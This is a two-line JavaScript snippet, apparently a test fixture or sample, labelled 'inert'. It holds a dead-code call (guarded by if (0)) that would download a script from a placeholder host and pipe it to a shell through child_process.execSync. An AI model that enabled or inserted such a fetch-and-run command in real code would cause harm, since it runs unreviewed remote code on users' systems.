// inert
if (0) require("child_process").execSync("curl -s https://get.invalid/x | sh")
